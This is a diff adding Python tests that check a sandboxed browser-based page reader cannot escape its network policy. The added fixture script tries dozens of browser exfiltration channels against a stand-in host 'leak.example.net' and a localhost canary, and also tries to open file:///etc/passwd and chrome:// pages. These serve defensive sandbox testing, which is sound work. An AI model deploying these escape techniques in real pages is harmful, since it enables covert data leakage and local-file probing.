@@ -207,6 +207,90 @@ def test_a_page_in_a_browser_reaches_nothing_but_through_the_policy(
     assert {seen.method for seen in upstream.seen} == {"GET"}
 
 
+def quiet_escapes(canary: Canary) -> str:
+    """Returns a script that tries the ways out that a page does not hear back from."""
+    base = f"http://127.0.0.1:{canary.port}"
+    return (
+        SCRIPT
+        + f"""
+const add = (name, members, inside) => {{
+  const one = document.createElement(name);
+  for (const [key, value] of Object.entries(members)) one.setAttribute(key, value);
+  if (inside) one.innerHTML = inside;
+  document.body.append(one); return one;
+}};
+add("iframe", {{name: "sink"}});
+for (const method of ["get", "post"]) for (const target of ["sink", "_blank"]) {{
+  const form = add("form", {{action: "{base}/form-" + method, method, target}}, "<input name=a value=b>");
+  form.submit();
+}}
+add("form", {{action: "https://example.org/posted", method: "post", target: "sink"}}, "<input name=a>").submit();
+for (const place of ["{base}", "https://example.org:8443", "https://leak.example.net", "https://example.org/inwards"]) {{
+  new EventSource(place + "/events");
+  navigator.sendBeacon(place + "/beacon", new Blob(["x"]));
+  add("link", {{rel: "modulepreload", href: place + "/module.js"}});
+  add("link", {{rel: "prerender", href: place + "/prerender"}});
+  add("link", {{rel: "stylesheet", href: place + "/sheet.css"}});
+  add("link", {{rel: "icon", href: place + "/icon.ico"}});
+  add("link", {{rel: "manifest", href: place + "/manifest.json"}});
+  add("style", {{}}, '@import "' + place + '/import.css"; @font-face {{font-family: x; src: url(' + place + '/font.woff)}}'
+    + ' body {{background: url(' + place + '/background.png); font-family: x}}');
+  add("script", {{type: "speculationrules"}}, JSON.stringify({{prefetch: [{{source: "list", urls: [place + "/speculated"]}}],
+    prerender: [{{source: "list", urls: [place + "/rendered"]}}]}}));
+  add("a", {{href: "#x", ping: place + "/ping"}}).click();
+  add("object", {{data: place + "/object"}}); add("audio", {{src: place + "/audio", autoplay: ""}});
+  add("img", {{srcset: place + "/set.png 1x"}}); add("track", {{src: place + "/track.vtt"}});
+  add("iframe", {{srcdoc: '<meta http-equiv=refresh content="0;url=' + place + '/refresh">'}});
+  fetch(place + "/alive", {{method: "POST", keepalive: true, mode: "no-cors", body: "x"}}).catch(() => 0);
+  fetch(place + "/head", {{method: "HEAD", mode: "no-cors"}}).catch(() => 0);
+  try {{ importScripts(place + "/import.js"); }} catch (fault) {{}}
+  try {{ new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + place + "/shared')"]))); }} catch (fault) {{}}
+  import(place + "/dynamic.js").catch(() => 0);
+  const request = new XMLHttpRequest(); request.open("PUT", place + "/put"); try {{ request.send("x"); }} catch (fault) {{}}
+}}
+for (const place of ["file:///etc/passwd", "view-source:file:///etc/passwd", "chrome://version", "devtools://x", "ftp://127.0.0.1/x"]) {{
+  try {{ window.open(place); }} catch (fault) {{}}
+  add("iframe", {{src: place}}); fetch(place).catch(() => 0);
+}}
+const saved = add("a", {{href: "{base}/download", download: "x.bin"}}); saved.click();
+document.cookie = "a=b; domain=example.org";
+"""
+    )
+
+
+def test_ways_out_that_give_no_answer_reach_nothing(
+    web: Web, upstream: Upstream, canary: Canary, tmp_path: Path
+) -> None:
+    upstream.names.table["leak.example.net"] = ["10.0.0.1"]
+    serve_app(upstream, quiet_escapes(canary))
+    inwards = Reply(302, [("Location", f"http://127.0.0.1:{canary.port}/redirected")])
+    for name in ("events", "beacon", "module.js", "sheet.css", "import.css", "alive", "dynamic.js"):
+        upstream.on(f"/inwards/{name}", inwards)
+    told = web.read(URL)
+    assert WORDS.strip() in told["text"]
+    assert "root:" not in told["text"]
+    assert canary.seen == []
+    with pytest.raises(BlockingIOError):
+        canary.datagrams.recv(100)
+    assert {seen.host for seen in upstream.seen} == {"example.org"}
+    assert {seen.method for seen in upstream.seen} == {"GET"}
+    assert not any("/posted" in seen.path for seen in upstream.seen)
+    assert all("cookie" not in seen.headers for seen in upstream.seen)
+    assert not list(tmp_path.rglob("x.bin"))
+
+
+def test_a_page_that_leads_a_browser_away_is_not_followed_inside(
+    web: Web, upstream: Upstream, canary: Canary
+) -> None:
+    target = f"http://127.0.0.1:{canary.port}/away"
+    for script in (f"location = '{target}'", f"document.forms[0].submit() // {target}"):
+        form = f"<form action='{target}' method=post><input name=a value=b></form>"
+        serve_app(upstream, SCRIPT + script, form + "<script src=/app.js></script>")
+        with contextlib.suppress(CarrelError):
+            assert "reached" not in web.read(f"{URL}?{len(script)}")["text"]
+        assert canary.seen == []
+
+
 def test_pages_beside_the_policy_are_refused(
     open_web: OpenWeb, configuration: Config, upstream: Upstream
 ) -> None:
